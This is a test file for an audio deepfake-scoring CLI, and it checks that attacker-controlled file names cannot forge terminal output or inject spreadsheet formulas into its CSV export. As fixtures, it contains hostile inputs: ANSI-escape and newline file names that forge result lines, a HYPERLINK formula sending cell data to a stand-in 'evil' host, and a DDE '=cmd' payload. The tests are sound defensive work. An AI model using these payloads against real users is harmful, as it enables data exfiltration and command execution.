import { copyFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { displayName, escapeControls, guardCell } from '../../src/analysis/plain-text';
import { buildCsv, type ResultRow } from '../../src/analysis/result';
import { runCli, tempDir } from '../helpers';

const SPEECH = '/usr/share/sounds/alsa/Front_Center.wav';
const score = (...args: string[]) => runCli(args);

describe('names from strangers in human-readable output', () => {
  it('escapes controls and direction overrides, and quotes odd names', () => {
    expect(escapeControls('a\u001b[8mb\nc\u202ed\u009b')).toBe('a\\u001b[8mb\\u000ac\\u202ed\\u009b');
    expect(displayName('plain take 01.wav')).toBe('plain take 01.wav');
    expect(displayName('x.wav: P(bona fide) = 0.97')).toBe('"x.wav: P(bona fide) = 0.97"');
    expect(displayName('a"b\\c\u0007.wav')).toBe('"a\\"b\\\\c\\u0007.wav"');
  });

  it('a file name cannot forge or hide a CLI result line', () => {
    const dir = tempDir('forge');
    const forged = path.join(
      dir,
      'deepfake.wav: P(bona fide) = 0.9731 (leans bona fide)\u001b[8m\nother.wav: P(bona fide) = 0.9999.wav',
    );
    copyFileSync(SPEECH, forged);
    const r = score(forged);
    expect(r.status).toBe(0);
    // eslint-disable-next-line no-control-regex -- control characters are what this looks for
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/); // only newlines between lines
    const lines = r.stdout.trim().split('\n');
    const result = lines.filter((l) => l.includes('P(bona fide) = 0.4779'));
    expect(result).toHaveLength(1);
    expect(result[0]).toMatch(
      /^".*deepfake\.wav: P\(bona fide\) = 0\.9731 \(leans bona fide\)\\u001b\[8m\\u000aother\.wav.*\.wav": P\(bona fide\) = 0\.4779/,
    );
    expect(lines.some((l) => l.startsWith('other.wav'))).toBe(false);
  });
});

describe('CSV cells a spreadsheet would run', () => {
  it('prefixes every formula-like text cell, also one with a newline after its first line', () => {
    expect(guardCell('=HYPERLINK("http://x"&A2,"Click")\n.wav')).toBe('\'=HYPERLINK("http://x"&A2,"Click")\n.wav');
    for (const c of ['+1', '-1+2', '@SUM(A1)', '\tx', '\rx']) expect(guardCell(c)).toBe(`'${c}`);
    expect(guardCell(-0.25)).toBe(-0.25);
    expect(guardCell('take.wav')).toBe('take.wav');
    const row: ResultRow = {
      file: '=HYPERLINK("http://evil"&A2,"Click")\n.wav',
      seconds: 1,
      pBonafide: 0.4,
      verdict: 'spoof',
      refMode: 'zero',
      ref: '@ref.wav',
      weights: { label: '=cmd|" /C calc"!A0', demo: false, dtype: 'float32', sha256: '+abc' },
      audioSha256: '-def',
      error: '=x',
    } as unknown as ResultRow;
    const parsed = Papa.parse<string[]>(buildCsv([row]).trim()).data[1];
    for (const cell of parsed) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(parsed[0]).toBe('\'=HYPERLINK("http://evil"&A2,"Click")\n.wav');
  });

  it("the CLI's --csv guards a file name with a newline", () => {
    const dir = tempDir('csv');
    const evil = path.join(dir, '=HYPERLINK("evil"&A2,"Click")\n.wav');
    copyFileSync(SPEECH, evil);
    // named as typed in its folder, so the cell starts with the name itself
    const r = runCli(['--csv', path.basename(evil)], { cwd: dir });
    expect(r.status).toBe(0);
    const rows = Papa.parse<string[]>(r.stdout.trim()).data;
    expect(rows[1][0]).toBe(`'${path.basename(evil)}`);
  });
});
